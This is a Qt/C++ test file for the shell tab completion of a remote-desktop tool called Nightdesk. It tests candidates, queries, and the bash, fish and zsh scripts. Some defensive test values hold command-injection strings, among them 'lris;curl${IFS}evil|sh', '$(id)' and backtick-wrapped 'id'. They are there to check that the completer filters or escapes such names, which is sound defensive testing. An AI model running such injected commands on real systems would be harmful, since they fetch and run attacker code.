// SPDX-FileCopyrightText: 2026 The Nightdesk developers
// SPDX-License-Identifier: GPL-3.0-or-later
#include "app/commands/commandtable.h"
#include "app/commands/completer.h"
#include "tests/support/testprogram.h"

#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QProcess>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <QTest>

#include <algorithm>
#include <sys/stat.h>

using namespace Nightdesk;
using namespace Qt::StringLiterals;
using Completer::CompletionCandidate;

namespace
{
QStringList wordsOf(const QList<CompletionCandidate> &candidates)
{
    QStringList words;
    for (const CompletionCandidate &candidate : candidates) {
        words.append(candidate.word);
    }
    return words;
}

QString source(const QString &name)
{
    return qEnvironmentVariable("NIGHTDESK_TEST_SOURCE_DIR") + u'/' + name;
}

QString programs()
{
    return qEnvironmentVariable("NIGHTDESK_TEST_BUILD_DIR") + u"/bin"_s;
}
}

/// What Tab offers: by the table, by the program, in real shells; and the page of commands.
class CompletionTest : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void initTestCase();
    void offers_data();
    void offers();
    void valuesAreAskedFor_data();
    void valuesAreAskedFor();
    void everyCommandAndOptionIsOffered();
    void brokenNamesAreNotPrinted();
    void namesThatAShellWouldRunAreNotOffered_data();
    void namesThatAShellWouldRunAreNotOffered();
    void theProgramOffersTheFacility();
    void aShareThatHangsIsNotWaitedFor();
    void shellsOffer_data();
    void shellsOffer();
    void bashQuotesWhatItIsTold();
    void thePageOfCommandsTellsAll();

private:
    QByteArray run(const QString &program, const QStringList &words);

    QTemporaryDir m_home;
};

void CompletionTest::initTestCase()
{
    QVERIFY(QDir(m_home.path()).mkpath(u"facility/profiles"_s));
    QVERIFY(QDir(m_home.path()).mkpath(u"config"_s));
    const auto write = [this](const QString &name, const QByteArray &text) {
        QFile file(m_home.filePath(name));
        return file.open(QIODevice::WriteOnly) && file.write(text) == text.size();
    };
    const QByteArray body = "[link.summit]\nhost = \"summit\"\n[[desktop]]\nid = \"c\"\nlink = \"summit\"\ndisplay = \":1\"\n";
    QVERIFY(write(u"facility/facility.toml"_s,
                  "format = 1\nname = \"O\"\n[site.hilo]\nname = \"Hilo town\"\nscreens = [\"left\"]\n[site.waimea]\nscreens = [\"left\"]\n"));
    QVERIFY(write(u"facility/profiles/lris.toml"_s, "format = 1\nid = \"lris\"\nname = \"LRIS\"\ndescription = \"Low resolution: imaging\"\n" + body));
    QVERIFY(write(u"facility/profiles/hires.toml"_s, "format = 1\nid = \"hires\"\nname = \"HIRES\"\n" + body));
    QVERIFY(write(u"facility/profiles/broken.toml"_s, "format = 1\nid = \"broken\"\nname = 7\n"));
    QVERIFY(write(u"config/nightdeskrc"_s, "[Settings]\nVersion=2\n[Desk]\nFacilityDirectory=" + m_home.filePath(u"facility"_s).toUtf8() + '\n'));
    QVERIFY(write(u"a-profile.toml"_s, "x"));
    QVERIFY(QDir(m_home.path()).mkdir(u"a-directory"_s));
}

QByteArray CompletionTest::run(const QString &program, const QStringList &words)
{
    QProcess process;
    QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
    environment.insert(u"PATH"_s, programs() + u':' + environment.value(u"PATH"_s));
    environment.insert(u"HOME"_s, m_home.path());
    environment.insert(u"XDG_CONFIG_HOME"_s, m_home.filePath(u"config"_s));
    environment.insert(u"XDG_CONFIG_DIRS"_s, u"/nowhere"_s);
    environment.insert(u"XDG_DATA_HOME"_s, m_home.filePath(u"data"_s));
    environment.insert(u"XDG_CACHE_HOME"_s, m_home.filePath(u"cache"_s));
    environment.insert(u"COMPLETIONS"_s, source(u"resources/completions"_s));
    environment.insert(u"TERM"_s, u"xterm"_s);
    process.setProcessEnvironment(environment);
    process.setWorkingDirectory(m_home.path());
    process.start(program == u"nightdesk"_s ? programs() + u"/nightdesk"_s : program, words);
    if (!process.waitForFinished(60000) || process.exitStatus() != QProcess::NormalExit) {
        process.kill();
        process.waitForFinished();
        return "it did not end";
    }
    return process.readAllStandardOutput();
}

void CompletionTest::offers_data()
{
    QTest::addColumn<QStringList>("words");
    QTest::addColumn<QStringList>("offered");
    QTest::newRow("a command by its first letters") << QStringList{u"conn"_s} << QStringList{u"connect"_s};
    QTest::newRow("two commands") << QStringList{u"re"_s} << QStringList{u"reference"_s};
    QTest::newRow("nothing that is hidden") << QStringList{u"comp"_s} << QStringList{};
    QTest::newRow("nothing for an unknown command") << QStringList{u"conect"_s, {}} << QStringList{};
    QTest::newRow("options of a command") << QStringList{u"view"_s, u"--"_s}
                                          << QStringList{u"--ssh"_s, u"--identity"_s, u"--view-only"_s, u"--fullscreen"_s, u"--help"_s};
    QTest::newRow("an option that was given is not offered again")
        << QStringList{u"view"_s, u"--view-only"_s, u"--ssh"_s, u"a@b"_s, u"--"_s} << QStringList{u"--identity"_s, u"--fullscreen"_s, u"--help"_s};
    QTest::newRow("an option that was given with = as well") << QStringList{u"show"_s, u"--site=hilo"_s, u"--s"_s} << QStringList{};
    QTest::newRow("options of the window") << QStringList{u"--r"_s} << QStringList{u"--resume"_s};
    QTest::newRow("no command after an option") << QStringList{u"--resume"_s, u"conn"_s} << QStringList{};
    QTest::newRow("no options after --") << QStringList{u"check"_s, u"--"_s, u"--"_s} << QStringList{};
    QTest::newRow("a schema") << QStringList{u"reference"_s, u"--schema"_s, u"f"_s} << QStringList{u"facility"_s};
    QTest::newRow("what a broker does") << QStringList{u"broker"_s, u"add"_s} << QStringList{u"add-desk"_s, u"add-sa"_s};
    QTest::newRow("what a broker does behind an option") << QStringList{u"broker"_s, u"--port"_s, u"1"_s, u"l"_s} << QStringList{u"list"_s};
    QTest::newRow("no action behind an action") << QStringList{u"broker"_s, u"list"_s, u"r"_s} << QStringList{};
    QTest::newRow("no options of ours behind a program") << QStringList{u"xtrace"_s, u"xterm"_s, u"-"_s} << QStringList{};
    QTest::newRow("options behind a trace that is compared") << QStringList{u"xtrace"_s, u"--compare"_s, u"a"_s, u"b"_s, u"--j"_s} << QStringList{u"--json"_s};
    QTest::newRow("no words at all") << QStringList{}
                                     << QStringList{u"connect"_s,
                                                    u"disconnect"_s,
                                                    u"raise"_s,
                                                    u"view"_s,
                                                    u"check"_s,
                                                    u"show"_s,
                                                    u"edit"_s,
                                                    u"reference"_s,
                                                    u"trust"_s,
                                                    u"demo"_s,
                                                    u"board"_s,
                                                    u"status"_s,
                                                    u"measure"_s,
                                                    u"visuals"_s,
                                                    u"xtrace"_s,
                                                    u"broker"_s};
}

void CompletionTest::offers()
{
    QFETCH(QStringList, words);
    QFETCH(QStringList, offered);
    QStringList got = wordsOf(Completer::findCompletions(words).candidates);
    got.sort();
    offered.sort();
    QCOMPARE(got, offered);
}

void CompletionTest::valuesAreAskedFor_data()
{
    using Completer::CompletionQuery;
    QTest::addColumn<QStringList>("words");
    QTest::addColumn<CompletionQuery>("query");
    QTest::newRow("a profile") << QStringList{u"connect"_s, u"l"_s} << CompletionQuery{ArgumentKind::Profile, u"l"_s, {}, {}, {}};
    QTest::newRow("a profile of another facility") << QStringList{u"connect"_s, u"--facility"_s, u"/f"_s, {}}
                                                   << CompletionQuery{ArgumentKind::Profile, {}, u"/f"_s, {}, {}};
    QTest::newRow("a profile of another facility, with =")
        << QStringList{u"connect"_s, u"--facility=/f"_s, {}} << CompletionQuery{ArgumentKind::Profile, {}, u"/f"_s, {}, {}};
    QTest::newRow("one profile is enough") << QStringList{u"connect"_s, u"lris"_s, {}} << CompletionQuery{};
    QTest::newRow("trust takes more than one") << QStringList{u"trust"_s, u"lris"_s, {}} << CompletionQuery{ArgumentKind::Profile, {}, {}, {}, {u"lris"_s}};
    QTest::newRow("a site") << QStringList{u"connect"_s, u"lris"_s, u"--site"_s, u"h"_s} << CompletionQuery{ArgumentKind::Site, u"h"_s, {}, {}, {}};
    QTest::newRow("a site was given") << QStringList{u"connect"_s, u"--site"_s, u"hilo"_s, {}} << CompletionQuery{ArgumentKind::Profile, {}, {}, u"hilo"_s, {}};
    QTest::newRow("a directory") << QStringList{u"--facility"_s, u"/"_s} << CompletionQuery{ArgumentKind::Directory, u"/"_s, {}, {}, {}};
    QTest::newRow("a file") << QStringList{u"check"_s, {}} << CompletionQuery{ArgumentKind::File, {}, {}, {}, {}};
    QTest::newRow("a display") << QStringList{u"raise"_s, u"c"_s} << CompletionQuery{ArgumentKind::Display, u"c"_s, {}, {}, {}};
    QTest::newRow("what is connected") << QStringList{u"disconnect"_s, {}} << CompletionQuery{ArgumentKind::ConnectedProfile, {}, {}, {}, {}};
    QTest::newRow("the host of a connection") << QStringList{u"measure"_s, u"--link"_s, u"s"_s}
                                              << CompletionQuery{ArgumentKind::ConnectedHost, u"s"_s, {}, {}, {}};
    QTest::newRow("a program") << QStringList{u"xtrace"_s, u"xc"_s} << CompletionQuery{ArgumentKind::Program, u"xc"_s, {}, {}, {}};
    QTest::newRow("a program's own words are files") << QStringList{u"xtrace"_s, u"--delay"_s, u"1s"_s, u"ds9"_s, u"m"_s}
                                                     << CompletionQuery{ArgumentKind::File, u"m"_s, {}, {}, {}};
    QTest::newRow("a second trace") << QStringList{u"xtrace"_s, u"--compare"_s, u"a"_s, {}} << CompletionQuery{ArgumentKind::File, {}, {}, {}, {}};
    QTest::newRow("no word to query") << QStringList{u"status"_s, {}} << CompletionQuery{};
}

void CompletionTest::valuesAreAskedFor()
{
    QFETCH(QStringList, words);
    QFETCH(Completer::CompletionQuery, query);
    QVERIFY(Completer::findCompletions(words).query == query);
}

void CompletionTest::everyCommandAndOptionIsOffered()
{
    const QStringList commands = wordsOf(Completer::findCompletions({QString()}).candidates);
    for (const CommandSpec &command : CommandTable::all()) {
        if (command.isHidden) {
            continue;
        }
        QVERIFY2(command.name.isEmpty() || commands.contains(command.name), qPrintable(command.name));
        QStringList typed{command.name, u"--"_s};
        typed.removeAll(QString());
        const QStringList options = wordsOf(Completer::findCompletions(typed).candidates);
        QCOMPARE(options.size(), command.options.size() + 1);
        for (const OptionSpec &option : command.options) {
            QVERIFY2(options.contains(u"--"_s + option.names.constLast()), qPrintable(option.names.constLast()));
        }
    }
}

void CompletionTest::brokenNamesAreNotPrinted()
{
    QCOMPARE(Completer::text({{u"a b"_s, {}}, {u"c\n:files"_s, {}}, {u"d\x1b[2J"_s, {}}, {{}, u"x"_s}, {u"good"_s, u"two\nlines\tand a tab"_s}}),
             u"good\ttwo lines and a tab\n"_s);
}

void CompletionTest::namesThatAShellWouldRunAreNotOffered_data()
{
    QTest::addColumn<QString>("name");
    QTest::addColumn<bool>("isOffered");
    QTest::newRow("a good name") << u"hires-2.b_c"_s << true;
    QTest::newRow("a command behind it") << u"lris;curl${IFS}evil|sh"_s << false;
    QTest::newRow("an option") << u"--facility=/tmp/x"_s << false;
    QTest::newRow("an option of ours") << u"--help"_s << false;
    QTest::newRow("a command in a file's name") << u"$(id)"_s << false;
    QTest::newRow("back ticks") << u"`id`"_s << false;
    QTest::newRow("a quote") << u"l'ris"_s << false;
    QTest::newRow("a line break at its end") << u"lris\n"_s << false;
    QTest::newRow("what the scripts mean files by") << u":files"_s << false;
    QTest::newRow("letters that look like others") << u"l\u0433is"_s << false;
}

void CompletionTest::namesThatAShellWouldRunAreNotOffered()
{
    QFETCH(QString, name);
    QFETCH(bool, isOffered);
    const QList<CompletionCandidate> fitting = Completer::matchingCandidates({ArgumentKind::Profile, {}, {}, {}, {}}, {{name, u"a profile"_s}});
    QCOMPARE(wordsOf(fitting), isOffered ? QStringList{name} : QStringList());
}

void CompletionTest::theProgramOffersTheFacility()
{
    const QByteArray profiles = run(u"nightdesk"_s, {u"complete"_s, u"--"_s, u"connect"_s, {}});
    QVERIFY2(profiles.contains("lris\tLow resolution: imaging\n"), profiles.constData());
    QVERIFY(profiles.contains("hires\tHIRES\n"));
    QVERIFY(profiles.contains("broken\n"));
    QCOMPARE(run(u"nightdesk"_s, {u"complete"_s, u"--"_s, u"show"_s, u"lris"_s, u"--site"_s, u"h"_s}), QByteArray("hilo\tHilo town\n"));
    QCOMPARE(run(u"nightdesk"_s, {u"complete"_s, u"--"_s, u"check"_s, {}}), QByteArray(":files\n"));
    QCOMPARE(run(u"nightdesk"_s, {u"complete"_s, u"--"_s, u"raise"_s, {}}), QByteArray()); // nothing runs
    QCOMPARE(run(u"nightdesk"_s, {u"complete"_s, u"--"_s, u"connect"_s, u"--facility"_s, u"/nowhere"_s, {}}), QByteArray());
}

void CompletionTest::aShareThatHangsIsNotWaitedFor()
{
    // Who opens a pipe without a writer waits, as at a share that does not answer.
    QVERIFY(QDir(m_home.path()).mkpath(u"hanging/profiles"_s));
    QCOMPARE(::mkfifo(QFile::encodeName(m_home.filePath(u"hanging/facility.toml"_s)).constData(), 0600), 0);
    QElapsedTimer clock;
    clock.start();
    QCOMPARE(run(u"nightdesk"_s, {u"complete"_s, u"--"_s, u"connect"_s, u"--facility"_s, m_home.filePath(u"hanging"_s), {}}), QByteArray());
    QVERIFY2(clock.elapsed() < 20000, qPrintable(QString::number(clock.elapsed()))); // it ends; a busy machine takes long to start it
}

void CompletionTest::shellsOffer_data()
{
    QTest::addColumn<QString>("typed");
    QTest::addColumn<QStringList>("offered");
    QTest::newRow("a command") << u"nightdesk conn"_s << QStringList{u"connect"_s};
    QTest::newRow("a profile") << u"nightdesk connect l"_s << QStringList{u"lris"_s};
    QTest::newRow("a site") << u"nightdesk connect lris --site wai"_s << QStringList{u"waimea"_s};
    QTest::newRow("an option") << u"nightdesk --res"_s << QStringList{u"--resume"_s};
    QTest::newRow("a program") << u"nightdesk xtrace mkfif"_s << QStringList{u"mkfifo"_s};
    QTest::newRow("a file") << u"nightdesk check a-pro"_s << QStringList{u"a-profile.toml"_s};
    QTest::newRow("a directory") << u"nightdesk --facility a-dir"_s << QStringList{u"a-directory"_s};
}

void CompletionTest::shellsOffer()
{
    QFETCH(QString, typed);
    QFETCH(QStringList, offered);
    // bash: the words as readline hands them over.
    const QString bash =
        u"source $COMPLETIONS/nightdesk.bash; COMP_WORDS=(%1); COMP_CWORD=$((${#COMP_WORDS[@]} - 1)); _nightdesk nightdesk; printf '%s\\n' \"${COMPREPLY[@]}\""_s
            .arg(typed);
    QCOMPARE(QString::fromUtf8(run(u"bash"_s, {u"--norc"_s, u"-c"_s, bash})).split(u'\n', Qt::SkipEmptyParts), offered);
    // fish completes a line itself.
    const QByteArray fish = run(u"fish"_s, {u"--no-config"_s, u"-c"_s, u"source $COMPLETIONS/nightdesk.fish; complete -C '%1'"_s.arg(typed)});
    QStringList words;
    for (const QString &line : QString::fromUtf8(fish).split(u'\n', Qt::SkipEmptyParts)) {
        words.append(line.section(u'\t', 0, 0).remove(QRegularExpression(u"/$"_s)));
    }
    QCOMPARE(words, offered);
    // zsh with somebody at its keyboard, who presses Tab and asks for what stands there then.
    const QString zsh =
        uR"zsh(zmodload zsh/zpty
zpty desk 'TERM=dumb PS1=: zsh -f -i'
zpty -w desk 'PS1=; unsetopt zle_bracketed_paste; fpath=($COMPLETIONS $fpath); autoload -Uz compinit; compinit -u -D; show() { print -r -- "<<$BUFFER>>" }; zle -N show; bindkey "^X" show; print READY''!'
zpty -r desk text '*READY!*'
zpty -w -n desk $'%1\t\x18'
zpty -r desk text '*<<*>>*'
print -r -- "${${text##*<<}%%>>*}")zsh"_s.arg(typed);
    const QString line = QString::fromUtf8(run(u"zsh"_s, {u"-f"_s, u"-c"_s, zsh})).trimmed();
    QCOMPARE(line.section(u' ', -1).remove(QRegularExpression(u"/$"_s)), offered.constFirst());
    QVERIFY2(line.startsWith(typed), qPrintable(line));
}

void CompletionTest::bashQuotesWhatItIsTold()
{
    const QString bash =
        u"source $COMPLETIONS/nightdesk.bash; other() { printf '%s\\n' 'lris;id' '$(id)\tits words' 'hires'; }; "
        u"COMP_WORDS=(other connect ''); COMP_CWORD=2; _nightdesk other; printf '%s\\n' \"${COMPREPLY[@]}\""_s;
    QCOMPARE(run(u"bash"_s, {u"--norc"_s, u"-c"_s, bash}), "lris\\;id\n\\$\\(id\\)\nhires\n");
}

void CompletionTest::thePageOfCommandsTellsAll()
{
    QFile file(source(u"docs/admin/commands.md"_s));
    QVERIFY(file.open(QIODevice::ReadOnly));
    const QString page = QString::fromUtf8(file.readAll());
    for (const CommandSpec &command : CommandTable::all()) {
        if (command.isHidden) {
            continue;
        }
        QVERIFY2(page.contains(command.name.isEmpty() ? u"`nightdesk`"_s : u"`nightdesk "_s + command.name), qPrintable(command.name));
        for (const OptionSpec &option : command.options) {
            QVERIFY2(page.contains(u"--"_s + option.names.constLast()), qPrintable(option.names.constLast()));
        }
    }
    // And none that is not there.
    const QRegularExpression pattern(u"`nightdesk ([a-z]+)"_s);
    for (const QRegularExpressionMatch &match : pattern.globalMatch(page)) {
        QVERIFY2(CommandTable::command(match.captured(1)), qPrintable(match.captured(1)));
    }
}

NIGHTDESK_GUILESS_TEST(CompletionTest)
#include "completiontest.moc"
